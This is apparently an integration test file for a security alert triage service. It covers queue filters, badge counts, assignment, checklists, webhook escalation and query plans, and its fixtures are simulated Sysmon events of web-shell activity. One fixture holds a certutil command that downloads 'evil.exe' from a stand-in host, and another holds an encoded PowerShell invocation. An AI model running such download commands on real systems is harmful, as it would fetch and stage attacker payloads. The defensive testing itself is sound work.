import http from "node:http";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import { resetDatabase } from "@/lib/db/test-setup/reset";

/**
 * Triage through the API against a real PostgreSQL: queue filters and groups, badges kept by
 * triggers, assignment, checklists, bulk changes, the escalation webhook, and query plans.
 */
const INGEST = "triage-ingest-token-0123456789";
const ADMIN = "triage-admin-token-0123456789-0123456789";
process.env.VIGIL_INGEST_TOKEN = INGEST;
process.env.VIGIL_ADMIN_TOKEN = ADMIN;
process.env.VIGIL_RULES_DIR = path.resolve("rules");

// The webhook receiver: escalations land here.
const received: { body: unknown; headers: http.IncomingHttpHeaders }[] = [];
const receiver = http.createServer((req, res) => {
  let data = "";
  req.on("data", (c) => (data += c));
  req.on("end", () => {
    received.push({ body: JSON.parse(data), headers: req.headers });
    res.writeHead(204).end();
  });
});

const BASE = "http://vigil.test";
const auth = { authorization: `Bearer ${ADMIN}` };
type Routes = {
  events: typeof import("./events/route");
  alerts: typeof import("./alerts/route");
  alert: typeof import("./alerts/[id]/route");
  bulk: typeof import("./alerts/bulk/route");
  checklist: typeof import("./alerts/[id]/checklist/route");
};
let routes: Routes;
let escalationsSettled: () => Promise<void>;

function sysmon(n: number, fields: Record<string, unknown>) {
  return {
    EventID: 1,
    UtcTime: `2026-11-10 10:${String(n).padStart(2, "0")}:00.000`,
    Computer: "WEB01",
    ProcessGuid: `{TRIAGE-${n}}`,
    Image: "C:\\Windows\\System32\\cmd.exe",
    CommandLine: `cmd.exe /c whoami ${n}`,
    ParentImage: "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
    User: "IIS APPPOOL\\DefaultAppPool",
    ...fields,
  };
}

const ctx = (id: string) => ({ params: Promise.resolve({ id }) });
const json = (method: string, body: unknown) => ({ method, headers: { ...auth, "content-type": "application/json" }, body: JSON.stringify(body) });
async function list(qs: string) {
  const res = await routes.alerts.GET(new Request(`${BASE}/api/v1/alerts?${qs}`, { headers: auth }), undefined as never);
  expect(res.status, await res.clone().text()).toBe(200);
  return res.json();
}
async function badges() {
  const { countOpenAlertsBySeverity } = await import("@/lib/db/alerts");
  return countOpenAlertsBySeverity();
}

beforeAll(async () => {
  await new Promise<void>((r) => receiver.listen(0, "127.0.0.1", r));
  process.env.VIGIL_ESCALATION_WEBHOOK = `http://127.0.0.1:${(receiver.address() as { port: number }).port}/hook?secret=s3cret`;
  await resetDatabase();
  routes = {
    events: await import("./events/route"),
    alerts: await import("./alerts/route"),
    alert: await import("./alerts/[id]/route"),
    bulk: await import("./alerts/bulk/route"),
    checklist: await import("./alerts/[id]/checklist/route"),
  };
  ({ escalationsSettled } = await import("@/lib/server/escalation"));
  const lines = [
    sysmon(1, {}),
    sysmon(2, { Computer: "WEB02", User: "CORP\\svc-iis" }),
    sysmon(3, { Computer: "WEB02", CommandLine: "cmd.exe /c certutil -urlcache -f http://x/evil.exe C:\\Temp\\e.exe" }),
    sysmon(4, { Computer: "WEB03", ParentImage: "C:\\Program Files\\Apache\\bin\\httpd.exe", Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", CommandLine: "powershell -enc AAAA" }),
    sysmon(5, { Computer: "WEB03" }),
    sysmon(6, { Computer: "WEB04" }),
  ];
  const res = await routes.events.POST(
    new Request(`${BASE}/api/v1/events`, { method: "POST", headers: { authorization: `Bearer ${INGEST}`, "content-type": "application/x-ndjson" }, body: lines.map((l) => JSON.stringify(l)).join("\n") }),
    undefined as never,
  );
  expect(await res.json()).toMatchObject({ accepted: 6, alerts: 6 });
});

afterAll(async () => {
  await new Promise((r) => receiver.close(r));
});

describe("queue filters and groups", () => {
  it("filters by user, parent process, ATT&CK id and free text, in the URL's terms", async () => {
    expect((await list("user=CORP%5Csvc-iis")).alerts.map((a: { host: { name: string } }) => a.host.name)).toEqual(["WEB02"]);
    expect((await list("parent=httpd.exe")).alerts).toHaveLength(1);
    expect((await list("q=CERTUTIL%20-urlcache")).alerts.map((a: { process: { command_line: string } }) => a.process.command_line)).toEqual([
      "cmd.exe /c certutil -urlcache -f http://x/evil.exe C:\\Temp\\e.exe",
    ]);
    // LIKE wildcards typed by a person are literal.
    expect((await list("q=%25")).alerts).toHaveLength(0);
    expect((await list("mitre=T1505.003")).alerts).toHaveLength(6);
    expect((await list("mitre=TA0003")).alerts).toHaveLength(6);
    expect((await list("mitre=T1059.999")).alerts).toHaveLength(0);
  });

  it("filters by rule through the denormalized rule ids", async () => {
    const all = await list("limit=10");
    const ruleId = all.alerts[0].rules[0].id as string;
    const byRule = await list(`rule=${ruleId}`);
    expect(byRule.alerts.length).toBeGreaterThan(0);
    expect(byRule.alerts.every((a: { rules: { id: string }[] }) => a.rules.some((r) => r.id === ruleId))).toBe(true);
    expect((await list("rule=no-such-rule")).alerts).toHaveLength(0);
  });

  it("counts groups by host, parent and rule", async () => {
    const byHost = await list("group=host&limit=1");
    expect(byHost.groups).toEqual([
      { key: "WEB02", label: "WEB02", count: 2 },
      { key: "WEB03", label: "WEB03", count: 2 },
      { key: "WEB01", label: "WEB01", count: 1 },
      { key: "WEB04", label: "WEB04", count: 1 },
    ]);
    const byParent = await list("group=parent");
    expect(byParent.groups).toEqual([
      { key: "w3wp.exe", label: "w3wp.exe", count: 5 },
      { key: "httpd.exe", label: "httpd.exe", count: 1 },
    ]);
    const byRule = await list("group=rule");
    expect(byRule.groups[0]).toMatchObject({ label: expect.any(String), count: expect.any(Number) });
    expect(byRule.groups.every((g: { label: string; key: string }) => g.label !== g.key)).toBe(true);
  });

  it("sorts newest, oldest or by risk, each with its own keyset pages", async () => {
    const walk = async (sort: string) => {
      const seen: { id: string; ts: string; risk: number }[] = [];
      let cursor: string | null = null;
      do {
        const page = await list(`sort=${sort}&limit=2&status=open,acknowledged,escalated,closed${cursor ? `&cursor=${cursor}` : ""}`);
        seen.push(...page.alerts.map((a: { id: string; "@timestamp": string; risk_score: number }) => ({ id: a.id, ts: a["@timestamp"], risk: a.risk_score })));
        cursor = page.next_cursor;
      } while (cursor);
      return seen;
    };
    const newest = await walk("newest");
    const oldest = await walk("oldest");
    const risk = await walk("risk");
    expect(newest.length).toBeGreaterThan(3);
    expect(new Set(newest.map((r) => r.id)).size).toBe(newest.length);
    expect(oldest.map((r) => r.id)).toEqual([...newest].reverse().map((r) => r.id));
    expect(new Set(risk.map((r) => r.id))).toEqual(new Set(newest.map((r) => r.id)));
    for (let i = 1; i < risk.length; i++) {
      const [a, b] = [risk[i - 1]!, risk[i]!];
      expect(a.risk > b.risk || (a.risk === b.risk && a.ts >= b.ts)).toBe(true);
    }
    // A cursor from one order is refused by another instead of skipping rows silently.
    const riskCursor = (await list("sort=risk&limit=1")).next_cursor;
    const res = await routes.alerts.GET(new Request(`${BASE}/api/v1/alerts?sort=newest&cursor=${riskCursor}`, { headers: auth }), undefined as never);
    expect(res.status).toBe(400);
    expect((await res.json()).error).toMatch(/another sort order/);
  });

  it("refuses bad filters with a reason", async () => {
    for (const [qs, message] of [
      ["mitre=T15", /invalid mitre "T15"/],
      ["group=user", /invalid group "user"/],
      [`q=${"x".repeat(201)}`, /q is at most 200/],
    ] as const) {
      const res = await routes.alerts.GET(new Request(`${BASE}/api/v1/alerts?${qs}`, { headers: auth }), undefined as never);
      expect(res.status).toBe(400);
      expect((await res.json()).error).toMatch(message);
    }
  });
});

describe("triage", () => {
  it("keeps the open-count badges exact through inserts and status changes", async () => {
    const before = await badges();
    expect(before.high).toBe(6);
    const id = (await list("host=WEB04")).alerts[0].id;
    await routes.alert.PATCH(new Request(`${BASE}/api/v1/alerts/${id}`, json("PATCH", { status: "closed", disposition: "false_positive" })), ctx(id));
    expect((await badges()).high).toBe(5);
    await routes.alert.PATCH(new Request(`${BASE}/api/v1/alerts/${id}`, json("PATCH", { status: "open" })), ctx(id));
    expect((await badges()).high).toBe(6);
    const exact = await db().$queryRaw<{ status: string; severity: string; n: bigint }[]>`
      SELECT status::text, severity::text, count(*) AS n FROM alerts GROUP BY 1, 2`;
    const kept = await db().alertCount.findMany({ where: { n: { not: 0 } } });
    expect(kept.map((k) => [k.status, k.severity, Number(k.n)]).sort()).toEqual(exact.map((e) => [e.status, e.severity, Number(e.n)]).sort());
  });

  it("assigns alerts by email, filters by assignee, and records who did it", async () => {
    const { getAuth } = await import("@/lib/auth/auth");
    const { user } = await (await getAuth()).api.createUser({ body: { email: "tri@vigil.test", password: "a long enough password", name: "Tri", role: "analyst" } });
    const id = (await list("host=WEB01")).alerts[0].id;
    const res = await routes.alert.PATCH(new Request(`${BASE}/api/v1/alerts/${id}`, json("PATCH", { assignee: "tri@vigil.test" })), ctx(id));
    expect(res.status).toBe(200);
    expect((await res.json()).assignee).toEqual({ id: user.id, email: "tri@vigil.test" });
    expect((await list(`assignee=${user.id}`)).alerts.map((a: { id: string }) => a.id)).toEqual([id]);
    expect((await list("assignee=none")).alerts).toHaveLength(5);
    const activity = await db().alertActivity.findMany({ where: { alertId: id, action: "assign" } });
    expect(activity).toMatchObject([{ actor: "token:VIGIL_ADMIN_TOKEN", note: "assigned to tri@vigil.test" }]);
    const audit = await db().auditEvent.findFirstOrThrow({ where: { action: "alert.assign", objectId: id } });
    expect(audit.after).toEqual({ assignee: "tri@vigil.test" });
    const nobody = await routes.alert.PATCH(new Request(`${BASE}/api/v1/alerts/${id}`, json("PATCH", { assignee: "ghost@vigil.test" })), ctx(id));
    expect(nobody.status).toBe(422);
  });

  it("ticks checklist steps from the rules' guides, with progress on the alert and in the audit trail", async () => {
    const alert = (await list("host=WEB03&parent=w3wp.exe")).alerts[0];
    expect(alert.checklist.done).toBe(0);
    expect(alert.checklist.total).toBeGreaterThan(2);
    const steps = (await (await routes.checklist.GET(new Request(`${BASE}/api/v1/alerts/${alert.id}/checklist`, { headers: auth }), ctx(alert.id))).json()).steps;
    expect(steps).toHaveLength(alert.checklist.total);
    expect(new Set(steps.map((s: { list: string }) => s.list))).toEqual(new Set(["triage", "response"]));
    const first = steps[0];
    const tick = (done: boolean, step = first.step) =>
      routes.checklist.PUT(new Request(`${BASE}/api/v1/alerts/${alert.id}/checklist`, json("PUT", { rule_id: first.rule_id, list: first.list, step, done })), ctx(alert.id));
    expect(await (await tick(true)).json()).toEqual({ done: 1, total: alert.checklist.total, changed: true });
    expect(await (await tick(true)).json()).toMatchObject({ done: 1, changed: false });
    expect((await tick(true, "0123456789abcdef")).status).toBe(422);
    const after = (await (await routes.checklist.GET(new Request(`${BASE}/api/v1/alerts/${alert.id}/checklist`, { headers: auth }), ctx(alert.id))).json()).steps;
    expect(after[0]).toMatchObject({ done: true, by: "token:VIGIL_ADMIN_TOKEN" });
    expect((await list("host=WEB03&parent=w3wp.exe")).alerts[0].checklist.done).toBe(1);
    expect(await (await tick(false)).json()).toMatchObject({ done: 0, changed: true });
    const audit = await db().auditEvent.findMany({ where: { action: "alert.checklist", objectId: alert.id }, orderBy: { id: "asc" } });
    expect(audit.map((a) => (a.after as { done: boolean }).done)).toEqual([true, false]);
  });

  it("bulk-escalates alerts, each on its own, and posts every escalation to the webhook", async () => {
    const ids = (await list("host=WEB02")).alerts.map((a: { id: string }) => a.id);
    const closed = (await list("host=WEB03")).alerts[0].id;
    await routes.alert.PATCH(new Request(`${BASE}/api/v1/alerts/${closed}`, json("PATCH", { status: "closed", disposition: "benign_positive" })), ctx(closed));
    received.length = 0;
    const res = await routes.bulk.POST(new Request(`${BASE}/api/v1/alerts/bulk`, json("POST", { ids: [...ids, closed], status: "escalated", note: "IR ticket 42" })), undefined as never);
    const body = await res.json();
    expect(body).toMatchObject({ updated: 2, failed: 1 });
    expect(body.results.find((r: { id: string }) => r.id === closed).error).toMatch(/closed: reopen it/);
    await escalationsSettled();
    expect(received).toHaveLength(2);
    expect(received[0]!.body).toMatchObject({ event: "alert.escalated", escalated_by: "token:VIGIL_ADMIN_TOKEN", note: "IR ticket 42", alert: { status: "escalated" } });
    expect(received.map((r) => (r.body as { alert: { id: string } }).alert.id).sort()).toEqual([...ids].sort());
    const delivered = await db().auditEvent.findMany({ where: { action: "alert.escalation_webhook" } });
    expect(delivered).toHaveLength(2);
    expect(delivered.map((d) => d.after)).toEqual([expect.objectContaining({ delivered: true, outcome: "HTTP 204" }), expect.objectContaining({ delivered: true })]);
    expect(JSON.stringify(delivered.map((d) => d.after))).not.toContain("s3cret");
    const bad = await routes.bulk.POST(new Request(`${BASE}/api/v1/alerts/bulk`, json("POST", { ids: ["not-a-uuid"], status: "escalated" })), undefined as never);
    expect(bad.status).toBe(422);
    expect((await bad.json()).error).toMatch(/ids/);
  });
});

describe("context around an alert", () => {
  it("rebuilds the process ancestry from retained events and lists children and related alerts", async () => {
    const proc = (n: number, guid: string, parentGuid: string, image: string, parentImage: string, cmd: string) => ({
      EventID: 1,
      UtcTime: `2026-11-11 08:00:0${n}.000`,
      Computer: "TREE01",
      ProcessGuid: guid,
      ProcessId: 100 + n,
      ParentProcessGuid: parentGuid,
      ParentProcessId: 99 + n,
      Image: image,
      CommandLine: cmd,
      ParentImage: parentImage,
    });
    const lines = [
      proc(1, "{T-W3WP}", "{T-SVCHOST}", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "C:\\Windows\\System32\\svchost.exe", "w3wp.exe -ap DefaultAppPool"),
      proc(2, "{T-CMD}", "{T-W3WP}", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "cmd.exe /c whoami"),
      proc(3, "{T-WHOAMI}", "{T-CMD}", "C:\\Windows\\System32\\whoami.exe", "C:\\Windows\\System32\\cmd.exe", "whoami"),
    ];
    await routes.events.POST(
      new Request(`${BASE}/api/v1/events`, { method: "POST", headers: { authorization: `Bearer ${INGEST}`, "content-type": "application/x-ndjson" }, body: lines.map((l) => JSON.stringify(l)).join("\n") }),
      undefined as never,
    );
    const { findAlert } = await import("@/lib/db/alerts");
    const { findProcessTree, findRelatedAlerts } = await import("@/lib/db/context");
    const id = (await list("host=TREE01&q=cmd.exe%20/c%20whoami")).alerts[0].id;
    const alert = (await findAlert(id))!;
    const tree = await findProcessTree(alert);
    expect(tree.ancestors.map((p) => p.name)).toEqual(["svchost.exe", "w3wp.exe"]);
    expect(tree.ancestors[1]).toMatchObject({ entityId: "t-w3wp", commandLine: "w3wp.exe -ap DefaultAppPool", startedAt: new Date("2026-11-11T08:00:01Z") });
    expect(tree.self).toMatchObject({ name: "cmd.exe", alertId: id });
    expect(tree.children.map((p) => [p.name, p.commandLine])).toEqual([["whoami.exe", "whoami"]]);
    const related = await findRelatedAlerts((await findAlert((await list("host=WEB01")).alerts[0].id))!);
    expect(related.map((r) => r.why)).toEqual(expect.arrayContaining(["parent"]));
    expect(related.some((r) => r.why === "parent" && r.id === id)).toBe(true);
  });
});

describe("query plans", () => {
  it("serves the queue's filters from indexes", async () => {
    const { findAlertPage } = await import("@/lib/db/alerts");
    // Six rows make a sequential scan the cheapest plan; with it off, the planner shows which index
    // serves each filter (at scale, bench/queue.ts measures the same queries on 1M alerts).
    const plans = await db().$transaction(async (tx) => {
      await tx.$executeRawUnsafe(`SET LOCAL enable_seqscan = off`);
      const plan = async (sql: string) => (await tx.$queryRawUnsafe<{ "QUERY PLAN": string }[]>(`EXPLAIN ${sql}`)).map((r) => r["QUERY PLAN"]).join("\n");
      return {
        first: await plan(`SELECT id FROM alerts a WHERE a.status = ANY('{open,acknowledged}'::alert_status[]) ORDER BY a.ts DESC, a.id DESC LIMIT 51`),
        // Without ORDER BY: the planner may serve a sorted page either way; what matters is that the
        // trigram index can answer the filter alone.
        text: await plan(`SELECT count(*) FROM alerts a WHERE a.search_text LIKE '%certutil%'`),
        mitre: await plan(`SELECT id FROM alerts a WHERE a.mitre_ids && '{T1505.003}'::text[] ORDER BY a.ts DESC LIMIT 51`),
        user: await plan(`SELECT id FROM alerts a WHERE a.user_name = 'x' ORDER BY a.ts DESC LIMIT 51`),
        rule: await plan(`SELECT id FROM alerts a WHERE a.rule_ids && '{x}'::text[] ORDER BY a.ts DESC LIMIT 51`),
      };
    });
    // On a handful of rows the planner may pick any status-leading index; bench/queue.ts prints the
    // plans at 1M alerts (a backward walk of alerts_ts_id_idx). Here: an index, never the table.
    expect(plans.first).toMatch(/Index (Only )?Scan on alerts_|Bitmap Index Scan on alerts_/);
    expect(plans.text).toMatch(/alerts_search_text_idx/);
    expect(plans.mitre).toMatch(/alerts_mitre_ids_idx|alerts_ts_id_idx/);
    expect(plans.user).toMatch(/alerts_user_name_ts_idx/);
    expect(plans.rule).toMatch(/alerts_rule_ids_idx|alerts_ts_id_idx/);
    expect(plans.first).not.toMatch(/Seq Scan/);
    // The page function itself runs with those filters.
    expect((await findAlertPage({ text: "certutil" }, 10, null)).alerts).toHaveLength(1);
  });
});
